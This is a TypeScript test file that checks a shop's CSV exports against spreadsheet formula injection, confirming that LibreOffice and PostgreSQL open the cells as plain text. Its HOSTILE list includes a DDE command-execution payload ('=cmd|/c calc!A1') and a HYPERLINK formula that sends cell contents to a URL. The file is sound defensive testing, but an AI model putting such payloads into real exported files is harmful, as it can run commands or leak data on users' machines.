import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvHeader } from '#domain/csv.ts';
import { readCsv } from '#domain/csv-reader.ts';
import { openShop, type TestShop } from '../../testing/app.ts';
import { temporaryDirectory } from '../../testing/databases.ts';
import { aProduct, aSession } from '../../testing/factories.ts';
import { anOrder } from '../../testing/orders.ts';
import { aReservation } from '../../testing/reservations.ts';
import { findOffice, officeDifferences, openInOffice } from '../../testing/spreadsheet.ts';

const HOSTILE = [
  '=1+1',
  '=HYPERLINK("http://example.com/?"&A1;"clique")',
  '+55 21 99999-0000',
  '-2+3',
  '@SUM(1;1)',
  '＝1+1',
  '\t=1+1',
  ' =1+1',
  '=cmd|/c calc!A1',
  'D\'Ávila "Zé"; irmão & <filhos>',
  'Saudades\neternas',
  'Ação, Índio, não — ñ',
];
const FILES = ['/orders/export', '/export/reservations', '/finances/export?start=2026-11-01&end=2026-11-30'] as const;

describe('the exports in a spreadsheet', () => {
  let shop: TestShop;
  let headers: { authorization: string };
  beforeAll(async () => {
    shop = await openShop('postgres');
    headers = await aSession(shop.deps, 'administrador');
    const wreath = await aProduct(shop.deps);
    for (const text of HOSTILE) {
      const texts = { buyerName: text, deceasedName: text, billingAddress: text, faixaTexts: [text] };
      await anOrder(shop.deps, { ...wreath, name: text }, texts);
      await aReservation(shop.deps, [wreath], texts);
      const payload = { descricao: text, valor: 1234.5, categoria: text, data: '2026-11-20' };
      const created = await shop.request({ method: 'POST', url: '/api/expenses', headers, payload });
      expect(created.status).toBe(201);
      shop.clock.advance(61_000);
    }
    await anOrder(shop.deps, wreath, { flags: ['refunded'] });
  });
  afterAll(() => shop.close());

  const download = async (file: string) =>
    String((await shop.request({ method: 'GET', url: `/api${file}`, headers })).body);

  it.each(FILES)("%s has the same cells for PostgreSQL's own reader of CSV", async (file) => {
    const csv = await download(file);
    const written = readCsv(csv);
    const folder = temporaryDirectory();
    try {
      // The database's server runs as another user.
      fs.chmodSync(folder, 0o755);
      const place = path.join(folder, 'file.csv');
      fs.writeFileSync(place, csv, { mode: 0o644 });
      const columns = (written[0] ?? []).map((_, i) => `c${i} text`).join(', ');
      const client = await shop.deps.database.pool.connect();
      try {
        await client.query(`create temporary table opened (${columns})`);
        await client.query(
          `copy opened from '${place}' (format csv, delimiter ';', header true, null '', encoding 'UTF8')`,
        );
        const { rows } = await client.query<Record<string, string | null>>('select * from opened');
        expect(rows.map((row) => Object.values(row).map((cell) => cell ?? ''))).toEqual(written.slice(1));
      } finally {
        await client.query('drop table if exists opened');
        client.release();
      }
    } finally {
      fs.rmSync(folder, { recursive: true });
    }
  });

  it.each(FILES)('%s opens in LibreOffice without a loss and without a formula', { timeout: 300_000 }, async (file) => {
    const csv = await download(file);
    const written = readCsv(csv);
    expect(written.length).toBeGreaterThan(HOSTILE.length);
    const office = findOffice();
    if (office === undefined) {
      process.stdout.write(`LibreOffice não está instalado: ${file} foi conferido só pelo leitor de CSV.\n`);
      return;
    }
    const opened = await openInOffice(office, csv);
    expect(opened.flat().filter(({ kind }) => kind === 'formula')).toEqual([]);
    expect(officeDifferences(written, opened)).toEqual([]);
  });

  it('would show a formula that nobody took its force', { timeout: 300_000 }, async () => {
    const office = findOffice();
    const raw = `${csvHeader(['Cliente', 'Valor'])}"=1+1";12,50\r\n`;
    if (office === undefined) {
      expect(readCsv(raw)[1]).toEqual(['=1+1', '12,50']);
      return;
    }
    expect(officeDifferences(readCsv(raw), await openInOffice(office, raw))).toEqual([
      expect.stringContaining('opened as {"kind":"formula"'),
    ]);
  });
});
